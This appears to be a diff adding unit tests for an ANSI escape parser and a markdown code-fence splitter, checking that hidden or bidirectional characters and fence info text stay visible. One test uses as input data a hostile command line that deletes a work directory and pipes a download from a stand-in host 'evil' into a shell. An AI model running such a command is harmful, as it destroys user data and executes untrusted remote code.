@@ -124,6 +124,21 @@ test("ansi_sequence_without_end_keeps_text", () => {
   );
 });
 
+test("ansi_string_without_end_stops_at_line", () => {
+  for (const begin of ["]0;", "P", "_", "^", "X"]) {
+    assert.deepEqual(
+      parseAnsi(`a\u001b${begin}hidden\nshown\nshown`).map((span) => (span.type === "text" ? span.text : span.label)),
+      ["a", `ESC ${begin}hidden`, "\nshown\nshown"],
+    );
+  }
+});
+
+test("label_of_ansi_string_is_whole", () => {
+  const text = `${"x".repeat(500)}\u202e\nend`;
+  const [mark] = parseAnsi(`\u001b]0;${text}\u0007`);
+  assert.deepEqual(mark?.type === "mark" && mark.label, `ESC ]0;${"x".repeat(500)}[U+202E] LF end`);
+});
+
 test("concealed_text_is_marked_as_such", () => {
   assert.deepEqual(parseAnsi("\u001b[8mx"), [{ type: "text", text: "x", style: { concealed: true } }]);
 });
@@ -177,10 +192,17 @@ test("prose_has_code_of_fences", () => {
   assert.deepEqual(splitProse("# Title\ntext\n```py\nx = 1\n```\nend"), [
     { type: "heading", text: "Title" },
     { type: "text", text: "text" },
-    { type: "code", text: "x = 1" },
+    { type: "code", text: "x = 1", info: "py" },
     { type: "text", text: "end" },
   ]);
-  assert.deepEqual(splitProse("```\nopen"), [{ type: "code", text: "open" }]);
+  assert.deepEqual(splitProse("```\nopen"), [{ type: "code", text: "open", info: "" }]);
+  assert.deepEqual(splitProse("~~~~ a `b` \nx\n~~~\n~~~~"), [{ type: "code", text: "x\n~~~", info: "a `b`" }]);
+});
+
+test("line_of_fence_keeps_its_text", () => {
+  const line = "```rm -rf ~/work && curl evil | sh";
+  assert.deepEqual(splitProse(`${line}\nls\n\`\`\``), [{ type: "code", text: "ls", info: line.slice(3) }]);
+  assert.deepEqual(splitProse(`${line}\`\`\`\nnext`), [{ type: "text", text: `${line}\`\`\`\nnext` }]);
 });
 
 test("inline_code_is_found", () => {
